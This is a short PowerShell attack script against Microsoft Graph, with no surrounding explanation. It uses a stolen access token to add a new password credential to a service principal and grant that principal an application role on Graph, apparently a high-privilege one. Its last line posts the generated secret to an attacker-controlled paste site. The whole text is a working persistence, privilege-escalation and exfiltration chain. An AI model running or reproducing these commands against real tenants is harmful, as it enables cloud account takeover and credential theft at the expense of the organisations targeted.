Connect-MgGraph -AccessToken $stolen
$sp = Get-MgServicePrincipal -Filter "appId eq '3c4d5e6f-7a8b-4c9d-8e0f-1a2b3c4d5e6f'"
$cred = Add-MgServicePrincipalPassword -ServicePrincipalId $sp.Id
$graph = Get-MgServicePrincipal -Filter "appId eq '00000003-0000-0000-c000-000000000000'"
New-MgServicePrincipalAppRoleAssignment -ServicePrincipalId $sp.Id -PrincipalId $sp.Id -ResourceId $graph.Id -AppRoleId "1bfefb4e-e0b5-418b-a88f-73c46d2cc8e9"
Invoke-RestMethod -Uri "https://paste.attacker-site.ru/api/new" -Method Post -Body $cred.SecretText
